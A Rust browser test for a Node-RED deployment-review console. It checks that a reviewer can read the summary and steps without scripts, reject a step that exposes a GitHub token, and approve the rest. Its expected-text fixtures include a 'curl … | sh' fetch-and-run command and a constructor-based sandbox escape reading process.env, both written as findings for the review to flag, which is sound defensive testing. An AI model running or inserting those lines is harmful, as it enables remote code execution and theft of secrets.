//! Somebody who never saw the system reviews a deployment with changes of every kind, from the
//! pages alone: in Chromium, without a line of script, on a desktop and a phone, in light and dark.

mod plant;

use serde_json::{Value, json};
use testkit::{Browser, Person, Redkeep, npm::AXE};

/// What the summary tells, before the first step.
const SUMMARY: &[&str] = &[
    "author has not said.",
    "23 changes: 5 added, 2 removed, 12 changed, 3 rewired, 1 moved on the canvas",
    "What looks like a GitHub token lies open in the flow",
    "Runs “curl -s https://updates.example.net/fix.sh | sh” on the machine",
    "Nothing reaches “Alarm: server is down” any more. It will not come, and nothing says so.",
    "Does not check who is at the other end",
    "Listens on “/maintenance”: whoever can reach it can send it messages.",
    "broker.example.net",
    "Rehearsal",
    "Start review",
    "Download as a signed file",
];

/// What the steps tell, in words, findings with their lines, and consequences.
const STEPS: &[&str] = &[
    // Code: the lines beside each other, and the finding's line.
    "Reaches out of its sandbox by an object's constructor",
    "func line 6",
    "const env = msg.constructor.constructor(\"return process.env\")();",
    // Rules, schedules, topics, brokers.
    "if msg.payload is greater than 300 → output 1",
    "every 5 minutes",
    "every 5 hours",
    "sensors/2/sleep_time",
    "localhost:1883",
    "broker.example.net:1883",
    "set msg.topic to the JSONata “'pump/' & $string($env('id')) & '/state'”",
    // Config nodes and whom they touch; credentials by name alone.
    "verifyservercert",
    "mqtt in on Pump",
    "password set",
    "user set",
    // The same node with a new id, and what a removed one did.
    "The same as “file” before (id 65ab89d79d9135cc), with a new id; nothing else differs",
    "Comes back as “file” with the new id 65ab89d79d9100aa",
    "No longer reaches 1 output: Alarm: server is down",
    "Was fed by",
    "Feeds ",
    "as the package sets",
    "Removed Check DCS output 3",
    "Moved",
    // The picture: framed, with a walk from change to change.
    "Next change",
    "Whole",
];

#[tokio::test(flavor = "multi_thread")]
async fn a_stranger_reviews_every_kind_of_change_without_script() {
    let redkeep = Redkeep::up().await;
    let ben = redkeep.person("ben", "reviewer").await;
    let id = proposed(&redkeep).await;
    let pages = pages(&redkeep, id).await;
    axe_is_clean(&redkeep, &ben, &pages).await;

    let browser = Browser::open().await;
    no_script_runs(&browser).await;
    let first = format!("{}{}", redkeep.console(), pages[0]);
    browser.goto(&first).await;
    browser.fill("#name", &ben.name).await;
    browser.fill("#password", &ben.password).await;
    browser.click_through("form button.primary").await;
    browser.requested().await;
    let summary = browser.text().await;
    tells(&summary, SUMMARY);
    browser.shots("review-summary").await;
    let mut read = approve_together(&browser, id).await;
    browser.goto(&first).await;
    read.push_str(&walk(&browser).await);
    tells(&read, STEPS);
    confirm(&redkeep, &browser, id).await;
    let foreign: Vec<String> = browser
        .requested()
        .await
        .into_iter()
        .filter(|url| !url.starts_with(&format!("{}/", redkeep.console())))
        .collect();
    assert!(foreign.is_empty(), "the pages asked others: {foreign:?}");
    browser.close().await;
    what_was_rejected_does_not_run(&redkeep).await;
    redkeep.assert_record_whole().await;
}

/// Proposes on top of what runs, and waits until it was rehearsed.
async fn proposed(redkeep: &Redkeep) -> i64 {
    let author = redkeep.author().await;
    redkeep.run_flows(&author, &plant::before()).await;
    let id = redkeep.propose(&author, &plant::after()).await;
    redkeep.rehearsed(id).await;
    id
}

/// The pages of its review: the summary, each step, and the confirmation.
async fn pages(redkeep: &Redkeep, id: i64) -> Vec<String> {
    let review = redkeep.deployment(id).await;
    let steps = review["steps"].as_array().unwrap().len();
    let mut pages = vec![format!("/deployments/{id}")];
    pages.extend((1..=steps).map(|step| format!("/deployments/{id}/steps/{step}")));
    let more = ["together/changed", "confirm", "reject"];
    pages.extend(more.map(|page| format!("/deployments/{id}/{page}")));
    pages.extend(["/history", "/settings"].map(str::to_owned));
    pages
}

/// axe is a script itself: it looks with scripts on, at the same pages.
async fn axe_is_clean(redkeep: &Redkeep, ben: &Person, pages: &[String]) {
    let axe = AXE.file("axe.min.js");
    let browser = Browser::open().await;
    let console = redkeep.console();
    browser.goto(&format!("{console}/sign-in")).await;
    browser.sign_in(&ben.name, &ben.password, None).await;
    let mut found = Vec::new();
    for page in pages {
        browser.goto(&format!("{console}{page}")).await;
        super::accessibility::look(&browser, &axe, page, &mut found).await;
    }
    browser.close().await;
    assert!(found.is_empty(), "{}", found.join("\n"));
}

/// Turns scripts off as a person can, and makes sure that a page's own would not run.
async fn no_script_runs(browser: &Browser) {
    let off = json!({"value": true});
    browser
        .devtools("Emulation.setScriptExecutionDisabled", off)
        .await;
    let page = "data:text/html,<p id=p>plain</p><script>p.textContent='ran'</script>";
    browser.goto(page).await;
    assert_eq!(browser.text().await.trim(), "plain", "scripts still run");
}

fn tells(text: &str, what: &[&str]) {
    // How lines break is the layout's matter.
    let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
    let missing: Vec<_> = what
        .iter()
        .filter(|it| !text.contains(it.trim_end()))
        .collect();
    assert!(missing.is_empty(), "not told: {missing:#?}\n{text}");
}

/// Approves what is of one kind and has nothing to look at twice, from the page that shows it;
/// gives what it says.
async fn approve_together(browser: &Browser, id: i64) -> String {
    browser
        .click_through(&format!("a[href='/deployments/{id}/together/changed']"))
        .await;
    let text = browser.text().await;
    tells(&text, &["of one kind", "every 5 hours", "greater than 300"]);
    assert!(!text.contains("GitHub token"), "{text}");
    browser.shots("review-together").await;
    browser.click_through("form.final button.primary").await;
    text
}

/// Decides every step by its buttons: asks once, rejects the token, approves the rest. Gives all
/// that was read.
async fn walk(browser: &Browser) -> String {
    let mut read = String::new();
    browser.click_through(".bar .button.primary").await;
    let (mut pages, mut has_asked) = (0, false);
    while !browser.address().await.contains("/confirm") {
        pages += 1;
        assert!(
            pages < 40,
            "the review never ends: {}",
            browser.text().await
        );
        let text = browser.text().await;
        if pages == 1 || !read.contains(&text) {
            browser.shots(&format!("review-{pages:02}")).await;
        }
        if !has_asked {
            has_asked = true;
            browser.click("details.talk > summary").await;
            let question = "Why is this open? It belongs into credentials.";
            browser.fill("details.talk textarea", question).await;
            browser
                .click_through("details.talk button[name=change]")
                .await;
            tells(&browser.text().await, &["1 comment", question]);
        }
        read.push_str(&text);
        if text.contains("What looks like a GitHub token") {
            browser
                .fill(
                    "form.decide textarea",
                    "The token goes into credentials first.",
                )
                .await;
            browser
                .click_through("button[name=verdict][value=reject]")
                .await;
        } else {
            browser
                .click_through("button[name=verdict][value=approve]")
                .await;
        }
    }
    read
}

/// The page that names exactly what will happen, and what it does.
async fn confirm(redkeep: &Redkeep, browser: &Browser, id: i64) {
    let shown = redkeep.deployment(id).await["shown"].clone();
    let text = browser.text().await;
    let shown = shown.as_str().unwrap();
    tells(
        &text,
        &[
            "Rejected: these will not run",
            "The token goes into credentials first.",
            "Approved: these will run",
            "Once more, what to know",
            "Apply 22 changes to main",
            shown,
        ],
    );
    browser.shots("review-confirm").await;
    browser.click_through("form.final button.primary").await;
    tells(&browser.text().await, &["Node-RED took it and runs."]);
    browser.shots("review-applied").await;
    browser
        .goto(&format!("{}/history", redkeep.console()))
        .await;
    let clone = format!("git clone {}/.redkeep/history.git", redkeep.editor());
    tells(&browser.text().await, &[&clone]);
    browser.shots("review-history").await;
}

async fn what_was_rejected_does_not_run(redkeep: &Redkeep) {
    let author = redkeep.author().await;
    let runs = redkeep.running(&author).await["flows"].clone();
    let find = |id: &str| -> Option<&Value> {
        let mut nodes = runs.as_array().unwrap().iter();
        nodes.find(|node| node["id"] == id)
    };
    let tab = find("ce924935.a36b38").unwrap();
    assert!(tab["env"].is_null(), "the token runs: {tab}");
    let after = plant::after();
    let mut after = after.as_array().unwrap().iter();
    let edited = after.find(|node| node["id"] == plant::EDITED).unwrap();
    assert_eq!(
        find(plant::EDITED),
        Some(edited),
        "what was approved does not run"
    );
}
